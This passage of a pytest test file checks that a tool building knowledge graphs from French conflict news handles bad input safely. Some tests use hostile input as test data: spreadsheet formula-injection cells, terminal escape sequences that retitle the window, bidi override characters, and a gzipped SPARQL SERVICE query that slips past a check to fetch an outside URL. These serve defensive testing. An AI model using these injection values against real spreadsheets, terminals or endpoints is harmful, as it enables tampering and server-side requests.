            cells = [c for row in csv.reader(fh) for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], name
        assert not [c for c in cells if "\u202e" in c], name
    with open(out / "events.csv", encoding="utf-8", newline="") as fh:
        notes = [r["notes"] for r in csv.DictReader(fh)]
    assert any(n.startswith("'=HYPERLINK(") for n in notes) and any(n.startswith("'+Les forces") for n in notes)


def test_reliability_10_csv_cell():
    from kg.store import csv_cell

    assert [csv_cell(v) for v in ("=1+1", "+33", "-2", "@SUM(A1)", "\tx", "\rx", "Alep", "", 3, -3.5)] == \
        ["'=1+1", "'+33", "'-2", "'@SUM(A1)", "'\tx", "'\rx", "Alep", "", 3, -3.5]


# ============================================================== 11. the minor ones
@pytest.mark.model
def test_reliability_11_a_users_store_folder_is_refused_before_anything_is_written(tmp_path):
    out = tmp_path / "o"
    _build([ONE], out, store=False)
    before = (out / "graph.ttl").read_bytes()
    (out / "store").mkdir()
    (out / "store" / "mine.txt").write_text("mine\n", encoding="utf-8")
    parsed = []
    from kg.pipeline import build

    with pytest.raises(KgError, match="not a store written by kg"):
        build([SEED_FILES[0]], out, html=False, validate=False, progress=lambda *a: parsed.append(a))
    assert parsed == [] and (out / "graph.ttl").read_bytes() == before
    assert (out / "store" / "mine.txt").read_text(encoding="utf-8") == "mine\n"


@pytest.mark.parametrize("content, problem", [
    ('{"merge": ["Homs"]}', '"merge" must map surface forms'),
    ('{"merge": {"Homs": 3}}', '"merge" must map surface forms'),
    ('{"split": "Homs"}', '"split" must be a list'),
    ('["Homs"]', "must be a JSON object"),
    ('{"merge": {}, "splt": []}', "unknown overrides key 'splt'"),
    ("{not json", "cannot read overrides"),
    # found later by a probe: both at once made Homs an actor (exit 0, the graph not conforming)
    ('{"merge": {"Homs": "islamic-state"}, "split": ["homs"]}', "'homs' is both merged (into 'islamic-state') and split"),
    ('{"merge": {"Homs": "homs", "HOMS": "islamic-state"}}', "sends the form 'HOMS' to two entities"),
])
def test_reliability_11_bad_overrides_are_a_usage_error_before_parsing(tmp_path, content, problem):
    bad = tmp_path / "over.json"
    bad.write_text(content, encoding="utf-8")
    result = runner.invoke(app, ["build", str(ONE), "-o", str(tmp_path / "o"), "--overrides", str(bad)])
    assert result.exit_code == 2, result.output
    assert f"kg: error: {bad}: " in result.output and problem in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert not (tmp_path / "o").exists()


def test_reliability_11_an_unwritable_output_folder_is_found_before_parsing(tmp_path, monkeypatch):
    """Fault injection: every write into OUT fails as on a read-only file system (EROFS)."""
    import errno

    out = tmp_path / "o"
    out.mkdir()
    real_open, real_mkdir = os.open, os.mkdir

    def ro(path) -> bool:
        return Path(path).resolve().parent == out.resolve() or Path(path).resolve() == out.resolve()

    def fake_open(path, flags, *a, **kw):
        if ro(path) and flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT):
            raise OSError(errno.EROFS, os.strerror(errno.EROFS), str(path))
        return real_open(path, flags, *a, **kw)

    def fake_mkdir(path, *a, **kw):
        if ro(path):
            raise OSError(errno.EROFS, os.strerror(errno.EROFS), str(path))
        return real_mkdir(path, *a, **kw)

    monkeypatch.setattr(os, "open", fake_open)
    monkeypatch.setattr(os, "mkdir", fake_mkdir)
    parsed = []
    from kg.pipeline import build

    with pytest.raises(BuildError, match="Read-only file system"):
        build([ONE], out, progress=lambda *a: parsed.append(a))
    assert parsed == []


@pytest.mark.model
def test_reliability_11_errors_while_reading_results_are_one_line(tmp_path):
    from helpers import seed_build

    port = _free_port()  # nothing listens there
    q = f"SELECT ?s WHERE {{ SERVICE <http://127.0.0.1:{port}/sparql> {{ ?s ?p ?o }} }}"
    for extra, start in (([], "kg: error: the query uses SERVICE"), (["--allow-service"], "kg: error: SPARQL error:")):
        result = runner.invoke(app, ["query", q, "-g", str(seed_build() / "graph.ttl"), *extra])
        assert result.exit_code == 1, result.output
        assert result.output.startswith(start) and len(result.output.strip().splitlines()) == 1, result.output


def test_reliability_11_file_names_are_printed_on_one_line(tmp_path):
    src = tmp_path / "in"
    src.mkdir()
    (src / "bad\nname\u202etxt.txt").write_text("Les rebelles ont pris Alep.\n", encoding="utf-8")
    result = runner.invoke(app, ["build", str(src), "-o", str(tmp_path / "o")])
    assert result.exit_code == 3, result.output
    lines = [line for line in result.output.splitlines() if line.startswith("kg: rejected:")]
    assert len(lines) == 1 and "bad\\nname\\u202etxt.txt" in lines[0]
    from kg.errors import printable

    assert printable("a\x1b[31mb") == "a\\u001b[31mb"


@pytest.mark.model
def test_reliability_11_quiet_prints_no_progress(tmp_path):
    src = tmp_path / "in"
    src.mkdir()
    for i in range(20):  # progress is shown from 20 articles
        (src / f"a{i:02d}.txt").write_text(f"Les rebelles ont pris Alep le {i + 1} mars.\n", encoding="utf-8")
    quiet = runner.invoke(app, ["build", str(src), "-o", str(tmp_path / "q"), "-q", "--no-html", "--no-validate"])
    assert quiet.exit_code == 0, quiet.output
    assert quiet.output == ""
    loud = runner.invoke(app, ["build", str(src), "-o", str(tmp_path / "l"), "--no-html", "--no-validate"])
    assert "[20/20]" in loud.output  # what -q hides


def test_reliability_11_future_publication_dates_and_bidi_controls_are_warned():
    from kg.ingest import article_from_text

    text = " date 2999-01-01\nLes rebelles ont pris Alep\u202e."
    art = article_from_text("a", text)
    codes = {w.code: str(w) for w in art.warnings}
    assert "in the future" in codes["future_date"]
    assert f"U+202E at offset {text.index(chr(0x202e))}" in codes["bidi"]
    assert not article_from_text("b", " date 2016-01-01\nLes rebelles ont pris Alep.").warnings


def test_reliability_11_the_view_shows_bidi_controls_escaped():
    from kg.view.page import _escape, _visible

    assert _visible("Alep\u202eetsiL") == "Alep\\u202eetsiL" and "\u202e" not in _escape("x\u2067y")


def _children(pid: int) -> list[int]:
    import psutil

    try:
        return [c.pid for c in psutil.Process(pid).children(recursive=True)]
    except psutil.NoSuchProcess:
        return []


def test_reliability_11_a_killed_kg_serve_takes_oxigraph_with_it(tmp_path):
    import psutil
    from test_serve import TRIG

    (tmp_path / "g.trig").write_text(TRIG, encoding="utf-8")
    port = _free_port()
    proc = subprocess.Popen([sys.executable, "-m", "kg.cli", "serve", "-g", str(tmp_path / "g.trig"), "--port",
                             str(port)], cwd=REPO, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        line = ""
        deadline = time.monotonic() + 60
        while not line.startswith("Press Ctrl-C") and time.monotonic() < deadline:
            line = proc.stdout.readline()
            assert line or proc.poll() is None, proc.stderr.read()
        children = [c for c in _children(proc.pid) if "oxigraph" in psutil.Process(c).name()]
        assert children, "no oxigraph child"
        proc.send_signal(signal.SIGKILL)
        proc.wait(timeout=30)
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline and any(psutil.pid_exists(c) and psutil.Process(c).status() != "zombie"
                                                  for c in children):
            time.sleep(0.2)
        alive = [c for c in children if psutil.pid_exists(c) and psutil.Process(c).status() != "zombie"]
        for c in alive:  # do not leave it running, whatever the test says
            os.kill(c, signal.SIGKILL)
        assert not alive, "oxigraph outlived kg serve"
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait(timeout=30)
        proc.stdout.close()
        proc.stderr.close()


def test_reliability_11_a_busy_port_is_said_plainly(tmp_path):
    from test_serve import TRIG

    (tmp_path / "g.trig").write_text(TRIG, encoding="utf-8")
    with socket.socket() as busy:
        busy.bind(("127.0.0.1", 0))
        busy.listen()
        port = busy.getsockname()[1]
        result = runner.invoke(app, ["serve", "-g", str(tmp_path / "g.trig"), "--port", str(port)])
    assert result.exit_code == 1, result.output
    assert f"kg: error: port {port} on 127.0.0.1 is already in use; pass another --port" in result.output


# ------------------------------------------------------------------ unwritable outputs (#14)
@pytest.mark.parametrize("args", [
    ["plot", "timeline", "-o", "{afile}/x.png"], ["plot", "network", "-o", "{afile}/sub/x.png"],
    ["view", "-o", "{afile}/x.html"], ["network", "--export", "{afile}/x.gexf"],
    ["network", "--write-back", "--out", "{afile}/x.ttl"], ["export", "-f", "acled", "-o", "{afile}/x.csv"],
    ["export", "-f", "graphml", "-o", "{afile}/x.graphml"], ["export", "-f", "jsonld", "-o", "{afile}/x.jsonld"],
], ids=lambda a: " ".join(x for x in a if "{afile}" not in x))
def test_reliability_14_an_unwritable_output_path_is_one_line_naming_it(tmp_path, args):
    """A part of the output path is a file: one line naming the path and the problem, exit 1, no traceback."""
    from conftest import make_graph

    graph, afile = tmp_path / "graph.ttl", tmp_path / "afile"
    make_graph().serialize(destination=str(graph), format="turtle")
    afile.write_text("mine\n", encoding="utf-8")
    args = [a.format(afile=afile) for a in args]
    result = runner.invoke(app, [*args, "-g", str(graph)])
    assert result.exit_code == 1, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    target = next(a for a in args if a.startswith(str(afile)))
    assert result.stderr.splitlines() == [
        f"kg: error: {target}: cannot be written ({afile} is a file, not a folder); choose another path"]
    assert afile.read_text(encoding="utf-8") == "mine\n"


def test_reliability_14_atomic_write_errors_are_the_outputs_and_still_oserrors(tmp_path):
    """Writing a folder's name, or a full disk while writing, is an OutputError (an OSError too,
    so the build's handling keeps working), no temporary file is left; the caller's own errors pass."""
    import errno

    from kg.errors import OutputError
    from kg.store import atomic_write

    with pytest.raises(OutputError, match="it is a folder") as caught:
        with atomic_write(tmp_path) as fh:
            fh.write("x")
    assert isinstance(caught.value, OSError) and caught.value.errno == errno.EISDIR
    target = tmp_path / "x.csv"
    with pytest.raises(OutputError, match=rf"^{target}: cannot be written \(No space left on device\)$"):
        with atomic_write(target):
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
    with pytest.raises(FileNotFoundError):  # reading something else inside the block: the caller's
        with atomic_write(target):
            (tmp_path / "missing").read_text()
    assert list(tmp_path.iterdir()) == []


@pytest.mark.model
def test_reliability_probe2_ctrl_c_after_the_build_published_does_not_say_interrupted(tmp_path):
    """A Ctrl-C in the last moment of a build that has published (while its summary prints) ended
    the kg process with exit 130 and no word, though the build was complete."""
    script = (
        "import os, signal, sys\n"
        "import kg.cli.build_cmds as b\n"
        "from kg.cli import main\n"
        "printed = b._print_build_report\n"
        "def late(report, quiet):\n"
        "    os.kill(os.getpid(), signal.SIGINT)  # Ctrl-C as the summary prints\n"
        "    printed(report, quiet)\n"
        "b._print_build_report = late\n"
        f"sys.argv = ['kg', 'build', {str(ONE)!r}, '-o', {str(tmp_path / 'out')!r}, '--no-html', '--no-validate']\n"
        "main()\n"
    )
    proc = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, cwd=REPO, timeout=600)
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert "built 1 article(s)" in proc.stdout + proc.stderr and "interrupted" not in proc.stderr
    assert (tmp_path / "out" / "report.json").is_file()


def test_reliability_probe3_serve_refuses_a_compressed_body(tmp_path, outside):
    """A gzipped query passed the SERVICE check unread, and Oxigraph ran it: the endpoint fetched
    the outside URL. A body in any Content-Encoding is refused (415); uncompressed it is checked."""
    import gzip

    from kg.serve import serve

    store = _small_store(tmp_path)
    query = f"SELECT * WHERE {{ SERVICE <{outside}> {{ ?s ?p ?o }} }}".encode()
    with serve(store, port=_free_port(), timeout=60) as server:
        for encoding, body in (("gzip", gzip.compress(query)), ("deflate", query), ("GZIP", gzip.compress(query))):
            req = urllib.request.Request(server.url, data=body, headers={
                "Content-Type": "application/sparql-query", "Content-Encoding": encoding})
            try:
                with urllib.request.urlopen(req, timeout=60) as resp:
                    status = resp.status
            except urllib.error.HTTPError as exc:
                status = exc.code
            assert status == 415, (encoding, status)
        assert _Recorder.hits == []
        assert _post(server.url, "ASK {}")[0] == 200


@pytest.mark.model
def test_reliability_probe3_the_api_never_writes_over_a_builds_files(tmp_path):
    """kg.open(b).view(b/graph.ttl) replaced the graph by a page and .export('jsonld', b/events.csv)
    the table by JSON-LD, where the command line refuses; view() wrote into the current folder."""
    import kg
    from kg.errors import UsageError
    from kg.pipeline import build

    out = tmp_path / "b"
    build([ONE], out, progress=None, validate=False)
    before = _tree(out)
    g = kg.open(out)
    with pytest.raises(UsageError, match="is a file of the kg build"):
        g.view(out / "graph.ttl")
    with pytest.raises(UsageError, match="is a file of the kg build"):
        g.export("jsonld", out / "events.csv")
    assert _tree(out) == before
    assert g.view(types="Airstrike") == out / "view.html"  # beside the graph; one type, not its letters
    (out / "view.html").write_text("my notes", encoding="utf-8")
    with pytest.raises(UsageError, match="not a page kg wrote"):
        g.view()
    result = runner.invoke(app, ["view", "-g", str(out / "graph.ttl")])
    assert result.exit_code == 2 and "not a page kg wrote" in result.output
    assert (out / "view.html").read_text(encoding="utf-8") == "my notes"


@pytest.mark.model
def test_reliability_probe3_kg_remove_resolves_with_the_builds_overrides(tmp_path):
    """kg remove resolved the remaining articles without the build's --overrides: the exports were
    those of a build without them, not "a build without the removed articles"."""
    import shutil

    rules = tmp_path / "ov.json"
    rules.write_text(json.dumps({"merge": {"EI": "my-ei"}, "split": ["Observatoire"]}), encoding="utf-8")
    first, rest = SEED_FILES[2], [p for p in SEED_FILES if p != SEED_FILES[2]]
    src = tmp_path / "all"
    src.mkdir()
    for p in SEED_FILES:
        shutil.copy(p, src)
    assert _kg("build", str(src), "-o", str(tmp_path / "i"), "-i", "--overrides", str(rules), "-q").returncode == 0
    assert json.loads((tmp_path / "i" / "report.json").read_text())["overrides"]["merge"] == {"ei": "my-ei"}
    assert _kg("remove", first.stem, "-o", str(tmp_path / "i"), "-q").returncode == 0
    (tmp_path / "rest").mkdir()
    for p in rest:
        shutil.copy(p, tmp_path / "rest")
    assert _kg("build", str(tmp_path / "rest"), "-o", str(tmp_path / "full"), "--overrides", str(rules),
               "-q").returncode == 0
    for name in ("graph.ttl", "events.csv", "entities.csv"):
        assert (tmp_path / "i" / name).read_bytes() == (tmp_path / "full" / name).read_bytes(), name
    assert b"my-ei" in (tmp_path / "i" / "graph.ttl").read_bytes()


# ------------------------------------------------------------------ a fourth probe (adversarial inputs)
@pytest.mark.parametrize("fmt", ["graphml", "gexf"])
def test_reliability_probe4_networks_are_xml_whatever_the_articles_hold(tmp_path, fmt):
    """An article with a control character or U+FFFE (which XML 1.0 cannot hold, even escaped) in an
    event's sentence or a name made kg export -f graphml|gexf write a file no XML parser reads."""
    import xml.etree.ElementTree as ET

    from conftest import ARMY, E1, make_graph

    from kg.exports import export
    from kg.namespace import CKG, SKOS

    g = make_graph()
    g.add((E1, CKG.evidence, Literal("Frappe à Idleb\x01\x1b[2J \ufffe\x0b lundi.")))
    g.set((ARMY, SKOS.prefLabel, Literal("Armée\x02 syrienne", lang="fr")))
    source = tmp_path / "graph.ttl"
    g.serialize(destination=str(source), format="turtle")
    out = tmp_path / f"net.{fmt}"
    export(fmt, source, out)
    text = ET.tostring(ET.parse(out).getroot(), encoding="unicode")  # parses
    assert "Idleb\\u0001\\u001b[2J \\ufffe\\u000b lundi." in text and "Armée\\u0002 syrienne" in text


def test_reliability_probe4_query_answers_show_control_characters_and_keep_them(tmp_path):
    """An ESC sequence in an article (\\x1b[2J clears the screen, \\x1b]0;…\\x07 retitles the terminal)
    was printed raw by kg query's table and CSV on a terminal, and silently cut out of the answer
    when piped (click strips what looks like ANSI codes): a CSV file that lost text. Now the table
    and CSV show it as a visible \\u001b, Turtle as a \\u001B escape, JSON as JSON escapes it."""
    from conftest import E1, make_graph

    from kg.namespace import CKG

    hostile = "Frappe à Idleb\x1b[2J\x1b]0;PWNED\x07\x01 lundi."
    g = make_graph()
    g.add((E1, CKG.evidence, Literal(hostile)))
    source = tmp_path / "graph.ttl"
    g.serialize(destination=str(source), format="turtle")
    select = "SELECT ?ev WHERE { ?e <https://w3id.org/conflict-kg/ontology#evidence> ?ev }"
    construct = "CONSTRUCT { ?e <urn:ev> ?ev } WHERE { ?e <https://w3id.org/conflict-kg/ontology#evidence> ?ev }"
    shown = "Idleb\\u001b[2J\\u001b]0;PWNED\\u0007\\u0001 lundi."
    for args, expected in ((["-f", "table"], shown), (["-f", "csv"], shown),
                           (["-f", "json"], "Idleb\\u001b[2J\\u001b]0;PWNED\\u0007\\u0001 lundi.")):
        result = runner.invoke(app, ["query", select, "-g", str(source), *args])
        assert result.exit_code == 0, result.output
        assert expected in result.stdout and "\x1b" not in result.stdout, (args, result.stdout)
    result = runner.invoke(app, ["query", construct, "-g", str(source)])
    assert result.exit_code == 0 and "\x1b" not in result.stdout, result.output
    assert hostile in {str(o) for o in Graph().parse(data=result.stdout, format="turtle").objects()}


@pytest.mark.parametrize(
    "target, bad", [("my ei", "' '"), ("  homs", "' '"), ("x/y", "'/'"), ("a#b", "'#'"), ("%41", "'%'"), ("<x>", "'<'")]
)
def test_reliability_probe4_an_override_target_that_cannot_be_an_id_is_a_usage_error(tmp_path, target, bad):
    """A merge target is an entity id, which is in the entity's IRI: "my ei" parsed every article and
    then stopped the build with a traceback when the store read the IRI (exit 1); "x/y#z" and "%41"
    made IRIs naming something else. Refused as the other mistakes of the file are, before parsing."""
    rules = tmp_path / "over.json"
    rules.write_text(json.dumps({"merge": {"Homs": target}}), encoding="utf-8")
    result = runner.invoke(app, ["build", str(ONE), "-o", str(tmp_path / "o"), "--overrides", str(rules)])
    assert result.exit_code == 2, result.output
    assert f"kg: error: {rules}: " in result.output and "cannot be an entity id" in result.output
    assert f"contains {bad}" in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert not (tmp_path / "o").exists()


def test_reliability_probe4_files_other_commands_write_get_the_usual_permissions(tmp_path):
    """kg export, kg view -o and kg network --export left their files owner-only (0600, the mode of the
    temporary file they are renamed from), where a build's exports get 0666 minus the umask: an
    analyst's colleagues could not open the GEXF written for them."""
    from conftest import make_graph

    from kg.store.atomic import atomic_write

    source = tmp_path / "graph.ttl"
    make_graph().serialize(destination=str(source), format="turtle")
    old = os.umask(0o027)
    try:
        outs = []
        for fmt, name in (("acled", "a.csv"), ("jsonld", "g.jsonld"), ("graphml", "g.graphml"), ("gexf", "g.gexf")):
            result = runner.invoke(app, ["export", "-f", fmt, "-g", str(source), "-o", str(tmp_path / name)])
            assert result.exit_code == 0, result.output
            outs.append(tmp_path / name)
        result = runner.invoke(app, ["network", "-g", str(source), "--export", str(tmp_path / "n.gexf")])
        assert result.exit_code == 0, result.output
        result = runner.invoke(app, ["view", "-g", str(source), "-o", str(tmp_path / "v.html")])
        assert result.exit_code == 0, result.output
        with atomic_write(tmp_path / "plain.txt") as fh:
            fh.write("x")
        outs += [tmp_path / "n.gexf", tmp_path / "v.html", tmp_path / "plain.txt"]
        assert {p.name: oct(p.stat().st_mode & 0o777) for p in outs} == {p.name: "0o640" for p in outs}
        with atomic_write(tmp_path / "own.txt", permissions=0o600) as fh:  # asked for: kept
            fh.write("x")
        assert (tmp_path / "own.txt").stat().st_mode & 0o777 == 0o600
    finally:
        os.umask(old)


@pytest.mark.parametrize(
    "content, code",
    [
        ("\u3000 \u2003\n\t\u00a0\n", "empty"),  # ideographic and em spaces
        ("\ufeff\u200b\u200b\n\u2060", "empty"),  # zero-width spaces and joiners: nothing shows
        (" date 2024-03-12\n\u3000\u200b\n", "header_only"),
    ],
)
def test_reliability_probe4_a_file_of_spaces_of_any_script_has_no_text(tmp_path, content, code):
    """A file of ideographic or em spaces was rejected as "no article text after the date header"
    (it has no header), and one of zero-width spaces was built as an article with no text."""
    from kg.ingest import InputRejected, read_article

    path = tmp_path / "blank.txt"
    path.write_text(content, encoding="utf-8")
    with pytest.raises(InputRejected) as info:
        read_article(path)
    assert info.value.code == code


def test_reliability_probe4_a_long_malformed_header_is_quoted_short():
    """A first line " date 2024-111…" of 10,000 characters was quoted whole in the bad_date warning:
    10 kB on the terminal and in report.json for one line."""
    from kg.ingest import article_from_text

    art = article_from_text("x", " date 2024-" + "1" * 10_000 + "\nLes rebelles ont pris Alep.")
    (warning,) = art.warnings
    assert warning.code == "bad_date" and len(warning) < 200 and "'date 2024-111" in warning and "…'" in warning
    assert art.body == "Les rebelles ont pris Alep."


@pytest.mark.model
def test_reliability_probe4_a_build_without_the_page_removes_the_previous_builds_page(tmp_path):
    """kg build --no-html into a folder built with the page left the previous build's graph.html
    beside the new graph (report.json no longer naming it), where a --no-store build unlinks the
    previous store: the page showed articles the build no longer had. A graph.html that is not the
    file the report named (the user's) stays."""
    out = tmp_path / "o"
    _build([ONE], out, html=True)
    assert "graph.html" in _report(out)["files"]
    _build([SEED_FILES[0]], out, html=False)
    assert not (out / "graph.html").exists() and "graph.html" not in _report(out)["files"]
    (out / "graph.html").write_text("my page\n", encoding="utf-8")
    _build([ONE], out, html=False)
    assert (out / "graph.html").read_text(encoding="utf-8") == "my page\n"
    assert "events.csv" in _report(out)["files"]


@pytest.mark.model
def test_reliability_probe4_removing_an_article_keeps_its_duplicate_under_the_duplicates_name(tmp_path):
    """b.txt has a.txt's text: the build makes one article 'a' with the alias 'b'. kg remove a took
    b's article with it (the graph had no article left of the two files), where a build without a.txt
    builds it as 'b'. Now the exports equal that build's, byte for byte."""
    import shutil

    src, rest = tmp_path / "all", tmp_path / "rest"
    src.mkdir()
    rest.mkdir()
    for folder in (src, rest):
        shutil.copy(ONE, folder / "b.txt")
        shutil.copy(SEED_FILES[0], folder / "c.txt")
    shutil.copy(ONE, src / "a.txt")
    _build([src], tmp_path / "o")
    assert _report(tmp_path / "o")["articles"] == 2
    result = runner.invoke(app, ["remove", "a", "-o", str(tmp_path / "o"), "-q", "--no-html", "--no-validate"])
    assert result.exit_code == 0, result.output
    _build([rest], tmp_path / "full")
    for name in ("graph.ttl", "graph.trig", "events.csv", "entities.csv", "derived.ttl"):
        assert (tmp_path / "o" / name).read_bytes() == (tmp_path / "full" / name).read_bytes(), name
    assert _report(tmp_path / "o")["articles"] == 2


@pytest.mark.parametrize("codec", ["utf-16-le", "utf-16-be"])
def test_reliability_probe4_utf16_without_a_byte_order_mark_is_read_not_called_binary(tmp_path, codec):
    """A file saved as UTF-16 without a byte-order mark (iconv -t UTF-16LE) was rejected as "binary
    file (NUL bytes), not text": it is decoded, with an encoding warning, as UTF-16 with a mark is.
    A binary file stays rejected."""
    from kg.ingest import InputRejected, read_article

    text = " date 2024-03-12\nDamas, 12 mars 2024 (AFP) - Des frappes aériennes ont tué 12 civils à Idleb."
    path = tmp_path / "u16.txt"
    path.write_bytes(text.encode(codec))
    art = read_article(path)
    assert art.text == text and art.published.iso() == "2024-03-12"
    assert [w.code for w in art.warnings] == ["encoding"] and codec.upper() in art.warnings[0]
    png = tmp_path / "image.txt"
    png.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 8)
    with pytest.raises(InputRejected) as info:
        read_article(png)
    assert info.value.code == "binary"


@pytest.mark.parametrize("space", ["\u00a0", "\u202f", "\u2009", "\u3000"])
def test_reliability_probe4_a_date_header_with_a_no_break_space_is_a_header(space):
    """" date\\u00a02024-03-12" (a no-break space, as a word processor pastes it) was not a header:
    no warning, the header left in the article's text and its publication date unknown, so every
    relative date of the text ("lundi", "hier") stayed unresolved."""
    from kg.ingest import article_from_text

    art = article_from_text("x", f"{space}date{space}2024-03-12{space}\nLes rebelles ont pris Alep lundi.")
    assert art.published.iso() == "2024-03-12" and art.body == "Les rebelles ont pris Alep lundi."
    assert not art.warnings


# ============================================================== fifth session (#14): a third probe
WHEN = "PREFIX ckg: <https://w3id.org/conflict-kg/ontology#> SELECT (COUNT(*) AS ?n) WHERE { ?e ckg:when ?d }"


@pytest.mark.model
def test_reliability_probe5_without_a_store_queries_read_the_derived_facts(tmp_path):
    """Without a store (--no-store, or its link deleted) the named queries answered from graph.ttl
    alone: `kg.open(DIR).query(...)` and `kg query -g DIR` looked for derived.ttl beside DIR, not in
    it, so every capture came back undated and `place=Homs` found none — silently. They read the
    derived facts as `kg query -g DIR/graph.ttl` and the store do."""
    import kg

    out = tmp_path / "o"
    _build([ONE], out, store=False)
    dated = runner.invoke(app, ["query", WHEN, "-g", str(out / "graph.ttl"), "-f", "csv"])
    assert dated.exit_code == 0 and int(dated.stdout.split()[1]) > 0
    for graph in (out, out / "graph.ttl"):
        result = runner.invoke(app, ["query", WHEN, "-g", str(graph), "-f", "csv"])
        assert result.exit_code == 0 and result.stdout == dated.stdout, graph
        assert kg.open(graph).query(WHEN, frame=False) == [{"n": int(dated.stdout.split()[1])}], graph
    assert len(kg.open(out).rdflib) == _report(out)["triples"]  # g.rdflib stays the graph, without them


@pytest.mark.model
def test_reliability_probe5_a_folder_whose_store_disagrees_is_read_from_its_graph_file(tmp_path):
    """With a store of another build beside report.json, `kg query -g DIR` and `kg network -g DIR`
    stopped: "there is no graph file DIR to read instead" — DIR/graph.ttl was there and matched
    report.json. They warn and answer from it, as `-g DIR/graph.ttl` did."""
    out = tmp_path / "o"
    _build([ONE], out)
    data = _report(out)
    data["store"] = "0" * 64
    (out / "report.json").write_text(json.dumps(data), encoding="utf-8")
    want = runner.invoke(app, ["query", COUNT, "-g", str(out / "graph.ttl"), "-f", "csv"])
    assert want.exit_code == 0 and "answering from" in want.output
    for args in (["query", COUNT, "-f", "csv"], ["network"]):
        result = runner.invoke(app, [*args, "-g", str(out)])
        assert result.exit_code == 0, result.output
        assert f"answering from {out / 'graph.ttl'} instead" in result.output and "no graph file" not in result.output
    assert runner.invoke(app, ["query", COUNT, "-g", str(out), "-f", "csv"]).stdout == want.stdout


@pytest.mark.model
def test_reliability_probe5_an_input_named_twice_or_holding_the_output_is_built_once(tmp_path):
    """`kg build seeds /abs/seeds/a.txt` rejected a.txt as "same article id as /abs/seeds/a.txt;
    rename one of them" (exit 3): one file, named twice. And `kg build in -o in/out.txt`, run twice,
    rejected its own output folder the second time ("a folder named .txt", exit 3); `-o in/out` listed
    it among the ignored inputs, and `-o in --force` its exports. The file is read once; the output
    folder and its exports are no inputs."""
    import shutil

    src = tmp_path / "in"
    src.mkdir()
    shutil.copy(ONE, src / "a.txt")
    report = _build([src, tmp_path / "in" / ".." / "in" / "a.txt"], tmp_path / "o")
    assert report.rejected == [] and _report(tmp_path / "o")["articles"] == 1
    for name in ("out.txt", "out"):
        shutil.rmtree(src / "out.txt", ignore_errors=True)
        for _ in range(2):
            report = _build([src], src / name)
            assert report.rejected == [] and report.ignored == [], name
            assert _report(src / name)["rejected"] == [] and _report(src / name)["ignored"] == []
    result = runner.invoke(app, ["build", str(src), str(src.resolve() / "a.txt"), "-o", str(src / "out"), "-q",
                                 "--no-html", "--no-validate"])
    assert result.exit_code == 0, result.output
    # -o the input folder itself (with --force): its exports are no ignored inputs the next time
    shutil.rmtree(src / "out")
    for force in (True, False):
        report = _build([src], src, force=force)
        assert report.rejected == [] and report.ignored == [], report.ignored


@pytest.mark.model
def test_reliability_probe5_a_damaged_report_json_is_said_and_still_guards_the_builds_files(tmp_path):
    """With report.json truncated, the readers answered without a word, and `kg view -o DIR/graph.html`
    or `kg export -o DIR/events.csv` wrote over the build's own files (what refused them was the list in
    report.json). The readers say report.json cannot be read and what to run; in a folder kg builds into
    (its marker) the exports' names stay kg's."""
    out = tmp_path / "o"
    _build([ONE], out)
    before = _tree(out)
    raw = (out / "report.json").read_bytes()
    (out / "report.json").write_bytes(raw[: len(raw) // 2])
    result = runner.invoke(app, ["query", COUNT, "-g", str(out), "-f", "csv"])
    assert result.exit_code == 0 and "report.json cannot be read" in result.output
    assert "Run 'kg build' again" in result.output
    for args in (["view", "-o", str(out / "graph.html")], ["export", "--format", "acled", "-o", str(out / "events.csv")],
                 ["export", "--format", "jsonld", "-o", str(out / "graph.ttl")]):
        result = runner.invoke(app, [*args, "-g", str(out)])
        assert result.exit_code == 2 and "is a file of the kg build" in result.output, args
    after = _tree(out)
    assert {k: v for k, v in after.items() if k != "report.json"} == {k: v for k, v in before.items() if k != "report.json"}
    # a folder that is not kg's keeps taking any name
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "report.json").write_text("{", encoding="utf-8")
    result = runner.invoke(app, ["export", "--format", "acled", "-g", str(out), "-o", str(mine / "events.csv")])
    assert result.exit_code == 0 and (mine / "events.csv").is_file()


def test_reliability_probe5_a_cache_folder_that_is_a_file_is_refused_before_parsing(tmp_path, monkeypatch):
    """`kg build --incremental` into a folder whose .kg-cache is a file parsed the first articles, then
    stopped at the first cache write (exit 1, "choose another path"): a usage error before any parsing,
    naming the file and what to do."""
    from kg.errors import UsageError
    from kg.pipeline import extraction

    out = _kg_folder(tmp_path / "o")
    (out / ".kg-cache").write_text("mine\n", encoding="utf-8")
    monkeypatch.setattr(extraction, "extract_batch", lambda arts: pytest.fail("parsed before the check"))
    monkeypatch.setattr(extraction, "warm_up", lambda: None)
    with pytest.raises(UsageError, match=r"\.kg-cache: not a folder.*without --incremental"):
        _build([ONE], out, cache=True, jobs=1)
    assert (out / ".kg-cache").read_text(encoding="utf-8") == "mine\n"
    result = runner.invoke(app, ["build", str(ONE), "-o", str(out), "--incremental", "-q", "--jobs", "1"])
    assert result.exit_code == 2 and "not a folder" in result.output


@pytest.mark.model
def test_reliability_probe5_a_graph_file_edited_after_the_build_is_said(tmp_path):
    """graph.ttl edited by hand after the build: kg query -g DIR/graph.ttl answered from the store,
    which does not hold the edit, without a word. It says so (a file only touched, same bytes, is not
    reported: the digest in report.json decides)."""
    out = tmp_path / "o"
    _build([ONE], out)
    graph = out / "graph.ttl"
    later = graph.stat().st_mtime_ns + 5_000_000_000
    os.utime(graph, ns=(later, later))  # touched: same bytes
    quiet = runner.invoke(app, ["query", COUNT, "-g", str(graph), "-f", "csv"])
    assert quiet.exit_code == 0 and "warning" not in quiet.output
    with open(graph, "a", encoding="utf-8") as fh:
        fh.write("<urn:x> <urn:p> <urn:y> .\n")
    for g in (graph, out):
        result = runner.invoke(app, ["query", COUNT, "-g", str(g), "-f", "csv"])
